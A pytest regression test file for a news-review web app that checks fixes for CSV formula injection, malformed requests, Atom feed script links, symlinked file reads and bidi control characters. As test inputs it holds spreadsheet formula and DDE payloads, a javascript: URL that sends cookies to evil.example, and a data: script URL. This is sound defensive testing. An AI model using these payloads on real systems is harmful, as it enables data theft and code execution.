"""Issue 16 on the review side: what a hostile story, a hostile page on another site
and odd requests could do to the review page, its feed and its exports.

Each test is a regression test for one item of the issue (named in its docstring);
all requests go to the app through Starlette's TestClient or to a real uvicorn on
127.0.0.1 started here.
"""

from __future__ import annotations

import csv
import io
import re
import warnings

import feedparser
import pytest
from click.testing import CliRunner
from lxml import etree

import review_data
from cli.main import _register, cli
from raqib.items import Flag
from review.app import create_app
from storage.articles import save_article
from storage.db import open_db
from storage.flags import save_flags
from storage.reviews import get_review

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from starlette.testclient import TestClient

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")
_register()


def client_for(path, **kw) -> TestClient:
    return TestClient(create_app(path, **kw), follow_redirects=False, base_url="http://127.0.0.1:8765")


@pytest.fixture
def site(tmp_path):
    path = tmp_path / "review.db"
    ids = review_data.build(path)
    return client_for(path), ids, path


def add_flagged(path, url: str, title: str, body: str = "نص المقال عن التعاون الأمني.", *, author: str = "",
                source: str = "bawaba", terms: tuple[str, ...] = ("التعاون الأمني",)) -> int:
    """Store one flagged article (through the real storage API) and return its id."""
    db = open_db(path)
    a = review_data.article(url, source, title, body, "2024-06-05T09:00:00+01:00")
    a.author = author
    aid, _ = save_article(db, a)
    matches = review_data.find_matches(body, [(t, "cooperation") for t in terms], "body")
    save_flags(db, aid, [Flag("ma_security", "v1abc", 3.0, True, matches, [], [{"rule": "cooperation"}])])
    db.conn.close()
    return aid


def csrf_of(client, url="/") -> str:
    html = client.get(url).text
    return re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)


# --- 11: CSV export formula injection --------------------------------------------

@pytest.mark.parametrize("value, expected", [
    ('=HYPERLINK("http://evil.example/?x="&A1,"اضغط")', '\'=HYPERLINK("http://evil.example/?x="&A1,"اضغط")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("التعاون الأمني", "التعاون الأمني"),
    ("a=b", "a=b"),
    (["=evil", "ok"], "'=evil; ok"),
    (-1.5, -1.5),
    (3, 3),
    (None, ""),
], ids=["equals", "plus", "minus", "at", "tab", "cr", "arabic", "inner-equals", "list", "negative-number",
        "int", "none"])
def test_csv_cell_defuses_formulas(value, expected):
    from review.export import csv_cell

    assert csv_cell(value) == expected


def test_csv_export_never_starts_a_cell_with_a_formula(site, tmp_path):
    """Item 11: `raqib export --format csv` prefixes formula-looking cells with '."""
    _, _, path = site
    aid = add_flagged(path, "https://bawaba.example.ma/f1", '=HYPERLINK("http://evil.example","اضغط هنا")',
                      author="+cmd|' /C calc'!A0")
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(cli, ["export", "--format", "csv", "--db", str(path), "-o", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8").lstrip("\ufeff"))))
    row = next(r for r in rows if int(r["id"]) == aid)
    assert row["title"] == '\'=HYPERLINK("http://evil.example","اضغط هنا")'
    assert row["author"] == "'+cmd|' /C calc'!A0"
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


# --- 12: 4xx, never 500 ----------------------------------------------------------

@pytest.mark.parametrize("url, status", [
    ("/?q=%22", 200),
    ('/?status=all&q=%22%22%20OR', 200),
    ("/article/{story}?q=%22", 200),
    ("/article/99999999999999999999999", 404),
    ("/article/9223372036854775808", 404),
    ("/?page=99999999999999999999", 400),
    ("/?page=-5", 200),
], ids=["fts-lone-quote", "fts-quotes-or", "article-fts-quote", "huge-id", "id-just-past-int64", "huge-page",
        "negative-page"])
def test_odd_requests_get_an_answer_not_a_500(site, url, status):
    """Item 12: FTS5 syntax in q, ids and pages beyond SQLite's integers."""
    client, ids, _ = site
    client = TestClient(client.app, raise_server_exceptions=False, follow_redirects=False,
                        base_url="http://127.0.0.1:8765")
    r = client.get(url.format(story=ids["story"]))
    assert r.status_code == status, r.text[:300]


def test_search_with_a_quote_finds_the_words(site):
    """Item 12: a query with quotes is searched as words, not rejected."""
    client, ids, _ = site
    r = client.get('/?status=all&q=%22%D8%AD%D9%85%D9%88%D8%B4%D9%8A')   # "حموشي
    assert r.status_code == 200
    assert re.findall(r'<tr class="item" data-id="(\d+)"', r.text) == [str(ids["story"])]


def test_review_of_an_unknown_article_is_404(site):
    """Item 12: POST /article/99999/review is a 404 and writes nothing."""
    client, ids, path = site
    token = csrf_of(client)
    client = TestClient(client.app, raise_server_exceptions=False, follow_redirects=False,
                        base_url="http://127.0.0.1:8765", cookies=client.cookies)
    for aid in (99999, 99999999999999999999999):
        r = client.post(f"/article/{aid}/review", data={"csrf_token": token, "status": "relevant"})
        assert r.status_code == 404, r.text[:300]
        assert str(aid) in r.text
    assert open_db(path).execute("SELECT count(*) FROM reviews").fetchone()[0] == 0


def test_batch_review_with_an_unknown_id_keeps_the_others(site):
    """Item 12: POST /review with one unknown id reports it and marks the rest."""
    client, ids, path = site
    token = csrf_of(client)
    client = TestClient(client.app, raise_server_exceptions=False, follow_redirects=False,
                        base_url="http://127.0.0.1:8765", cookies=client.cookies)
    r = client.post("/review", data={"csrf_token": token, "status": "later", "next": "/?status=later",
                                     "ids": [str(ids["copy"]), "99999", str(ids["old"])]})
    assert r.status_code == 404, r.text[:300]
    message = re.search(r'id="error-message">(.*?)<', r.text).group(1)
    assert "99999" in message and str(ids["copy"]) not in message
    assert 'href="/?status=later"' in r.text                 # the way back the form asked for
    db = open_db(path)
    assert get_review(db, ids["copy"])["status"] == get_review(db, ids["old"])["status"] == "later"


# --- 13: the Atom feed -------------------------------------------------------------

def test_feed_has_no_script_links_and_survives_control_characters(site):
    """Item 13: a javascript:/data: original is left out of the feed; a control
    character in a stored title does not make /feed.atom a 500."""
    client, ids, path = site
    js = add_flagged(path, "javascript:fetch('//evil.example/'+document.cookie)", "عنوان عادي عن التعاون")
    data = add_flagged(path, "data:text/html,<script>alert(1)</script>", "عنوان آخر")
    ctl = add_flagged(path, "https://bawaba.example.ma/c1", "عنوان\x01 فيه\x07 محارف\x1b[31m تحكم\x08",
                      body="نص\x0b فيه التعاون الأمني\x0c هنا.", source="baw\x02aba")
    r = TestClient(client.app, raise_server_exceptions=False, base_url="http://127.0.0.1:8765").get("/feed.atom")
    assert r.status_code == 200, r.text[:300]
    root = etree.fromstring(r.content)   # well-formed XML
    hrefs = [link.get("href") for link in root.iter("{http://www.w3.org/2005/Atom}link")]
    assert all(h.startswith("http://127.0.0.1:8765/") or h.startswith("https://") for h in hrefs), hrefs
    feed = feedparser.parse(r.content)
    assert not feed.bozo, feed.get("bozo_exception")
    by_id = {e.id.rsplit("/", 1)[1]: e for e in feed.entries}
    assert [link.rel for link in by_id[str(js)].links] == ["alternate"]
    assert [link.rel for link in by_id[str(data)].links] == ["alternate"]
    assert by_id[str(ctl)].title == "عنوان فيه محارف[31m تحكم"
    assert {link.rel for link in by_id[str(ids["story"])].links} == {"alternate", "related"}


# --- 14: the tune view and symlinks ----------------------------------------------------

def test_tune_view_refuses_symlinks_and_files_outside_its_folder(site, tmp_path):
    """Item 14: a symlink in the candidates folder is neither listed nor read."""
    client, _, path = site
    cand = tmp_path / "cands"
    cand.mkdir()
    secret = tmp_path / "secret.yaml"
    secret.write_text("root:x:0:0:SECRET-MARKER:/root:/bin/bash\n", encoding="utf-8")
    (cand / "evil.yaml").symlink_to(secret)
    (cand / "inner.yaml").symlink_to(cand / "plain.yaml")
    (cand / "plain.yaml").write_text("not: [a watchlist\n", encoding="utf-8")
    client = client_for(path, candidates_dir=cand)
    page = client.get("/tune")
    assert page.status_code == 200
    assert 'value="candidates/plain.yaml"' in page.text
    assert "candidates/evil.yaml" not in page.text and "candidates/inner.yaml" not in page.text
    for key in ("candidates/evil.yaml", "candidates/inner.yaml"):
        r = client.get("/tune", params={"file": key})
        assert r.status_code == 404
        assert "SECRET-MARKER" not in r.text
    assert client.get("/tune", params={"file": "candidates/plain.yaml"}).status_code == 200


# --- 15: bidi controls in scraped text ---------------------------------------------

RLO, PDF, LRI = "\u202e", "\u202c", "\u2066"
BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")


def test_bidi_controls_in_scraped_text_cannot_leak(site, tmp_path):
    """Item 15: a U+202E in a title, author, term, source or body reaches no page as a
    live control, and the byline and terms are isolated (<bdi>)."""
    client, _, path = site
    term = "التعاون" + RLO + "الأمني"
    aid = add_flagged(path, "https://bawaba.example.ma/bidi", RLO + "عنوان معكوس",
                      body=f"نص فيه {term} وفيه {LRI}عزل بلا نهاية و{RLO}تجاوز{PDF}.",
                      author=RLO + "الكاتب", source="baw" + RLO + "aba", terms=(term,))
    pages = {url: client.get(url) for url in ("/?status=all", f"/article/{aid}", "/tune")}
    for url, r in pages.items():
        assert r.status_code == 200, url
        assert not BIDI.search(r.text), (url, BIDI.findall(r.text))
    article = pages[f"/article/{aid}"].text
    assert re.search(r'<bdi class="author">\u200bالكاتب</bdi>', article)
    assert "\u200bتجاوز\u200b" in article          # replaced one for one: offsets still line up
    inbox = pages["/?status=all"].text
    assert re.search(r'<span class="term"><bdi>التعاون\u200bالأمني</bdi>', inbox)
    feed = client.get("/feed.atom").text
    assert not BIDI.search(feed)
